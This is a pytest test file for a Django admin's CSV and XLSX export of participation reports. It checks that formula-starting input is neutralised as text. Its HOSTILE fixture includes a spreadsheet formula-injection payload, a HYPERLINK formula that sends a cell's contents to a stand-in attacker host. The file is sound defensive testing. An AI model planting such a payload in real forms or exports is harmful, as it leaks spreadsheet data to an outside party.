"""The admin's export of participation reports: text from the public form never becomes a formula."""

import csv
import io

import openpyxl
import pytest

from django.urls import reverse

from core.spreadsheets import neutralise_formula
from tests.factories import ParticipationReportFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "library_name": '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "settlement": "+7(495)123",
    "post_url": "https://vk.com/wall-1_1",
    "contact_email": "x@example.org",
}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Библиотека", "Библиотека"),
        (5, 5),
        (None, None),
    ],
)
def test_formula_starts_are_neutralised(value, expected):
    assert neutralise_formula(value) == expected


@pytest.fixture
def campaign():
    from movement.models import CampaignPage

    return CampaignPage.objects.filter(locale__language_code="ru").first()


def test_csv_export_writes_formulas_as_text(admin_client_ru, seeded, campaign):
    ParticipationReportFactory(campaign=campaign, **HOSTILE)
    url = reverse("movement_reports:index") + "?export=csv"
    response = admin_client_ru.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE["library_name"] in cells
    assert "'+7(495)123" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_xlsx_export_stores_formulas_as_strings(admin_client_ru, seeded, campaign):
    ParticipationReportFactory(campaign=campaign, **HOSTILE)
    response = admin_client_ru.get(reverse("movement_reports:index") + "?export=xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    hostile = [cell for cell in cells if cell.value == HOSTILE["library_name"]]
    assert hostile and all(cell.data_type == "s" for cell in hostile)
